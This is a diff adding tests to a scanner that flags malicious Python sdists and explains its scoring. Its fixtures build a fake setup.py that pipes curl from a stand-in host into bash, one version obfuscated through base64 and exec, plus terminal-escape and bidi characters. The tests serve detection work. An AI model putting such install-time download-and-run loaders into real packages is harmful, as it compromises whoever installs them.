@@ -108,8 +108,40 @@ test("text shows what was found; --explain what it contributed", async () => {
   const { out } = await run(join(folder, "bad.tgz"), "--explain");
   assert.match(out, /^malicious {2}/);
   assert.match(out, /setup\.py:\d+ .*\(downloads-and-runs\)/);
-  assert.match(out, /contributions to the score:\n +\d+\.\d+ {2}[a-z-]+/);
+  assert.match(out, / 5 \| os\.system\('curl -s http:\/\/example\.invalid\/x \| bash'\)\n/);
+  assert.match(out, /account, in log-odds:\n +-4\.00 {2}prior.*\n +\+\d+\.\d+ {2}[a-z-]+ {2}demo-1\.0\/setup\.py:\d\n/);
+  assert.match(out, /sum, a probability of 1\.000: malicious\n +suspicious from 0\.5 \(\+0\.00\), malicious from 0\.9/);
   assert.match(out, /1 archive: 1 malicious/);
+});
+
+test("--explain escapes what a terminal would obey in the source it shows", async () => {
+  const folder = folderWith({
+    "bad.tgz": sdist({
+      name: "demo",
+      version: "1.0",
+      files: { "setup.py": "import os; os.system('curl -s http://example.invalid/x | bash') # \u001b[2J \u202e\n" },
+    }),
+  });
+  const { out } = await run(join(folder, "bad.tgz"), "--explain");
+  assert.match(out, /# \\u\{1b\}\[2J \\u\{202e\}\n/);
+  assert.ok(!out.includes("\u001b[2J") && !out.includes("\u202e"));
+});
+
+test("--explain adds the account to JSON, with the source of a decoded layer, and nothing without it", async () => {
+  const inner = Buffer.from("import os\nos.system('curl -s http://example.invalid/x | bash')\n").toString("base64");
+  const setup = `import base64\nexec(base64.b64decode('${inner}'))\n`;
+  const folder = folderWith({ "bad.tgz": sdist({ name: "demo", version: "1.0", files: { "setup.py": setup } }) });
+  const [line] = lines((await run(folder, "--format", "jsonl", "--explain")).out) as [Record<string, unknown>];
+  const account = line["account"] as { prior: number; sum: number; findings: Record<string, unknown>[] };
+  const points = account.findings.reduce((sum, one) => sum + (one["points"] as number), account.prior);
+  assert.ok(Math.abs(points - account.sum) < 0.001);
+  const inside = account.findings.find(({ detector }) => detector === "downloads-and-runs");
+  assert.deepEqual((inside as { source: unknown[] }).source.at(-1), {
+    line: 2,
+    layer: 1,
+    text: "os.system('curl -s http://example.invalid/x | bash')",
+  });
+  assert.equal(inside?.["phase"], "install");
 });
 
 test("json, SARIF and JUnit are whole documents", async () => {
